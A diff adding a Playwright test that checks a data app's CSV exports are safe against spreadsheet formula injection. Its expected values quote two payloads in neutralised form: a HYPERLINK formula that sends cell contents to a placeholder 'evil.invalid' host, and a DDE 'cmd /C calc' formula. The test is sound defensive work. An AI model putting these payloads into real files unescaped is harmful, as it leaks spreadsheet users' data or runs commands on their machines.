@@ -1,0 +1,60 @@
+import { readFileSync } from 'node:fs';
+import type { Page } from '@playwright/test';
+import { test, expect } from './fixtures';
+import { parseCsv } from '../../src/lib/csv-read';
+
+// Issue 15 in the browser: real-shaped files open whole and undistorted, and CSV exports are inert in
+// a spreadsheet. Each test names the numbered problem of the issue it covers.
+
+const fileInput = (page: Page) => page.getByLabel('Open dataset file (JSON or CSV)');
+const mappingDialog = (page: Page, name: string) =>
+  page.getByRole('dialog', { name: `Map the columns of ${name}` });
+
+/** Text cells a spreadsheet would run as formulas: = + - @ tab or CR first, and not a plain number. */
+function liveFormulaCells(csv: string): string[] {
+  return parseCsv(csv.replace(/^\uFEFF/, ''))
+    .rows.flat()
+    .filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(c));
+}
+
+async function download(page: Page, item: string): Promise<string> {
+  await page.getByRole('button', { name: 'Export' }).click();
+  const downloaded = page.waitForEvent('download');
+  await page.getByRole('menu', { name: 'Export' }).getByRole('menuitem', { name: item }).click();
+  return readFileSync(await (await downloaded).path(), 'utf8');
+}
+
+test('2. formula cells: exported CSVs are inert, and reopening the export gives the same data', async ({
+  page,
+  consoleErrors,
+}) => {
+  const name = 'formula-cells.csv';
+  await page.goto('./');
+  await fileInput(page).setInputFiles(`tests/fixtures/${name}`);
+  await mappingDialog(page, name).getByRole('button', { name: 'Open' }).click();
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText(name);
+
+  const observations = await download(page, 'Download CSV');
+  expect(liveFormulaCells(observations)).toEqual([]);
+  const rows = parseCsv(observations.replace(/^\uFEFF/, '')).rows;
+  const speaker = rows[0]!.indexOf('speaker');
+  const score = rows[0]!.indexOf('score');
+  expect(rows.map((r) => r[speaker])).toContain(
+    '\'=HYPERLINK("http://evil.invalid/?leak="&A1;"Click for the source")',
+  );
+  // Scores stay number cells: −2 is written -2, not '-2.
+  expect(rows.slice(1).map((r) => r[score])).toEqual(['-2', '-1', '0', '2', '2.5', '-3']);
+
+  const series = await download(page, 'Download series CSV');
+  expect(liveFormulaCells(series)).toEqual([]);
+  expect(series).toContain("'=cmd|' /C calc'!A0");
+
+  // The downloaded file opened again: the same observations, so exporting once more gives the same file.
+  await fileInput(page).setInputFiles({ name, mimeType: 'text/csv', buffer: Buffer.from(observations) });
+  await mappingDialog(page, name).getByRole('button', { name: 'Open' }).click();
+  await expect(page.getByText(/^Opened formula-cells\.csv: 6 observations/)).toBeVisible();
+  const again = await download(page, 'Download CSV');
+  const ids = (csv: string) => csv.replace(/\brow-\d+\b/g, 'row-N').replace(/row \d+:/g, 'row N:');
+  expect(ids(again)).toBe(ids(observations));
+  expect(consoleErrors).toEqual([]);
+});
